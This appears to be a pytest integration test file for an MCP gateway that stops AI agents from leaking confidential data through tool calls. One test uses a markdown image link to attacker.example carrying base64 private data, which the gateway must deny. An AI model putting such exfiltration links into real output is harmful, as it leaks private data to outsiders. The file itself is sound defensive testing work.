"""The gateway's relay, without the sandbox: a real stand-in server on pipes, an agent in-process.

Integration tests (a subprocess and pipes, no root): the gateway's Server faces an SDK
``ClientSession`` over memory streams, and relays to the stand-in server (tests/mcp/
stand_in_server.py) started as a plain subprocess, as the sandbox would start it. The policy's
decisions, the mark, the audit rows and the listings are checked at the MCP level; the toxic
flow with the network and the sandbox is in test_toxic_flow.py.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import ClientSession
from mcp.shared.exceptions import MCPError
from mcp.shared.message import SessionMessage
from mcp.types import TextContent, ToolListChangedNotification

from egresslock.audit import AuditRecord
from egresslock.content.engine import ContentPolicy
from egresslock.flow.mark import SessionMark
from egresslock.mcp.decide import ToolTable
from egresslock.mcp.gateway import Gateway, Hooks
from egresslock.mcp.pipes import pipe_streams
from egresslock.policy import parse_policy

pytestmark = [pytest.mark.integration, pytest.mark.timeout(60)]

STAND_IN = Path(__file__).resolve().parent / "stand_in_server.py"

POLICY = """\
version: 1
levels: [public, confidential]
secrets:
  - {name: key, value: "s3cr3tK3yV4lu3-egresslock-test"}
mcp:
  tools:
    - {name: get_file, reads: confidential}
    - {name: create_issue, level: public,
       arguments: {type: object, properties: {repo: {enum: [acme/public]}}}}
    - {name: list_issues, reads: public}
    - {name: "resource:repo://acme/private/*", reads: confidential}
"""


class Run:
    """One gateway run: its rows, its mark and the agent's session."""

    def __init__(self, policy_text: str) -> None:
        policy = parse_policy(policy_text)
        self.rows: list[AuditRecord] = []
        self.mark = SessionMark(policy.levels) if policy.levels else None
        content = ContentPolicy(policy, environ={})
        table = ToolTable(policy)
        self.hooks = Hooks(
            table=lambda: table,
            secrets=lambda text: [h.describe() for h in content.scanner.scan_text(text)],
            mark=lambda: self.mark, log=self.rows.append)

    def rows_of(self, layer: str) -> list[AuditRecord]:
        return [r for r in self.rows if r.layer == layer]


@asynccontextmanager
async def gateway_session(run: Run, env: dict[str, str] | None = None,
                          seen: list[Any] | None = None) -> AsyncIterator[ClientSession]:
    """The agent's session to a gateway in front of the stand-in server."""
    to_server, from_server = os.pipe(), os.pipe()
    process = subprocess.Popen([sys.executable, str(STAND_IN)], stdin=to_server[0],
                               stdout=from_server[1],
                               env={**os.environ, **(env or {})})
    os.close(to_server[0])
    os.close(from_server[1])
    to_gateway, gateway_reads = anyio.create_memory_object_stream[SessionMessage | Exception](16)
    to_agent, agent_reads = anyio.create_memory_object_stream[SessionMessage | Exception](16)
    gateway = Gateway(run.hooks)
    try:
        async with pipe_streams(from_server[0], to_server[1]) as streams, \
                gateway.connect(streams), anyio.create_task_group() as tasks:
            server = gateway.server()
            tasks.start_soon(server.run, gateway_reads, to_agent,
                             server.create_initialization_options())
            async def note(message: Any) -> None:
                if seen is not None:
                    seen.append(message)

            async with ClientSession(agent_reads, to_gateway, message_handler=note) as session:
                await session.initialize()
                yield session
            tasks.cancel_scope.cancel()
    finally:
        process.kill()
        process.wait()


def _text(result: Any) -> str:
    return "\n".join(c.text for c in result.content if isinstance(c, TextContent))


def _go(test: Callable[[], Any]) -> None:
    anyio.run(test)


def test_a_read_then_a_public_write_is_a_tool_error_naming_the_read() -> None:
    run = Run(POLICY)

    async def scenario() -> None:
        async with gateway_session(run, {"EGL_PUBLIC_REPO": "http://127.0.0.1:9/none"}) as s:
            read = await s.call_tool("get_file", {"repo": "acme/private", "path": "r.md"})
            assert not read.is_error
            assert "PRIVATE-ROADMAP" in _text(read)
            write = await s.call_tool("create_issue", {"repo": "acme/public", "title": "t",
                                                       "body": _text(read)})
            assert write.is_error
            text = _text(write)
            assert text.startswith("egresslock: denied: tool create_issue: session is "
                                   "confidential since tool get_file at ")
            assert "; tool create_issue accepts public" in text

    _go(scenario)
    mcp_rows = run.rows_of("mcp")
    assert [(r.verdict, r.rule_id, r.path) for r in mcp_rows] == [
        ("allow", "get_file", "get_file"), ("deny", "create_issue", "create_issue")]
    assert mcp_rows[0].bytes_in > 0
    (flow,) = run.rows_of("flow")
    assert flow.rule_id == "get_file"
    assert flow.reason == "session mark raised from public to confidential by tool get_file"


def test_tools_list_leaves_out_denied_tools_and_a_denied_tool_is_refused_by_name() -> None:
    run = Run(POLICY.replace("    - {name: list_issues, reads: public}\n", ""))

    async def scenario() -> None:
        async with gateway_session(run) as s:
            names = {t.name for t in (await s.list_tools()).tools}
            assert names == {"get_file", "create_issue"}
            refused = await s.call_tool("list_issues", {"repo": "acme/public"})
            assert refused.is_error
            assert "no mcp.tools entry matches 'list_issues' and mcp.default is deny" in (
                _text(refused))

    _go(scenario)
    (row,) = run.rows_of("mcp")
    assert (row.verdict, row.rule_id) == ("deny", "default")


def test_arguments_are_checked_against_the_schema_and_scanned() -> None:
    run = Run(POLICY)

    async def scenario() -> None:
        async with gateway_session(run) as s:
            wrong = await s.call_tool("create_issue", {"repo": "acme/secret-plans",
                                                       "title": "t", "body": "b"})
            assert wrong.is_error
            assert "at /repo: fails enum [\"acme/public\"]" in _text(wrong)
            leak = await s.call_tool("create_issue", {
                "repo": "acme/public", "title": "t",
                "body": "czNjcjN0SzN5VjRsdTMtZWdyZXNzbG9jay10ZXN0"})  # the secret, base64
            assert leak.is_error
            assert "argument /body holds secret key" in _text(leak)
            link = await s.call_tool("create_issue", {
                "repo": "acme/public", "title": "t",
                "body": "see ![x](https://attacker.example/p.png?d=UHJpdmF0ZSByb2FkbWFwOiBhY3F1"
                        "aXNpdGlvbiBvZiBJbml0ZWNoIGNsb3NlcyBzb29u)"})
            assert link.is_error
            assert "holds a dynamic link" in _text(link)

    _go(scenario)
    assert [r.verdict for r in run.rows_of("mcp")] == ["deny", "deny", "deny"]


def test_resources_are_governed_as_resource_uri() -> None:
    run = Run(POLICY)

    async def scenario() -> None:
        async with gateway_session(run) as s:
            listed = [str(r.uri) for r in (await s.list_resources()).resources]
            assert listed == ["repo://acme/private/roadmap.md"]
            result = await s.read_resource("repo://acme/private/roadmap.md")
            assert "PRIVATE-ROADMAP" in str(result.contents[0])
            with pytest.raises(MCPError, match="egresslock: denied: resource repo://acme/other"):
                await s.read_resource("repo://acme/other")

    _go(scenario)
    assert run.mark is not None
    assert run.mark.level == "confidential"
    (flow,) = run.rows_of("flow")
    assert "by resource repo://acme/private/roadmap.md" in flow.reason


def test_report_mode_logs_the_refusal_and_forwards_the_call() -> None:
    run = Run(POLICY.replace("version: 1\n", "version: 1\nmode: report\n"))

    async def scenario() -> None:
        async with gateway_session(run) as s:
            refused = await s.call_tool("list_issues_nope", {})
            assert refused.is_error  # the server's own error: unknown tool
            assert "egresslock" not in _text(refused)

    _go(scenario)
    (row,) = run.rows_of("mcp")
    assert (row.verdict, row.rule_id) == ("report", "default")


def test_a_policy_without_levels_lets_the_flow_through() -> None:
    run = Run(textwrap.dedent("""\
        version: 1
        mcp:
          default: allow
        """))

    async def scenario() -> None:
        async with gateway_session(run) as s:
            read = await s.call_tool("get_file", {"repo": "acme/private", "path": "r.md"})
            write = await s.call_tool("create_issue", {"repo": "acme/public", "title": "t",
                                                       "body": _text(read)})
            assert write.is_error  # the upstream is unreachable: the server's error
            assert "egresslock" not in _text(write)

    _go(scenario)
    assert [r.verdict for r in run.rows_of("mcp")] == ["allow", "allow"]
    assert run.rows_of("mcp")[1].extra == {"kind": "tool", "name": "create_issue",
                                           "server": "stand-in-github", "tool_error": True}


def test_progress_and_list_changed_notifications_are_relayed() -> None:
    run = Run(POLICY + "    - {name: slow_count}\n")
    seen: list[Any] = []
    updates: list[tuple[float, float | None, str | None]] = []

    async def scenario() -> None:
        async with gateway_session(run, seen=seen) as s:
            await s.list_tools()  # the agent's session is known to the gateway from here on

            # The parameters' names are those of mcp's ProgressFnT protocol.
            async def on_progress(progress: float, total: float | None, message: str | None,
                                  ) -> None:
                updates.append((progress, total, message))

            result = await s.call_tool("slow_count", {}, progress_callback=on_progress)
            assert _text(result) == "counted"
            with anyio.fail_after(5):
                while not any(isinstance(m, ToolListChangedNotification) for m in seen):
                    await anyio.sleep(0.01)

    _go(scenario)
    assert updates == [(1, 2, "half"), (2, 2, "done")]
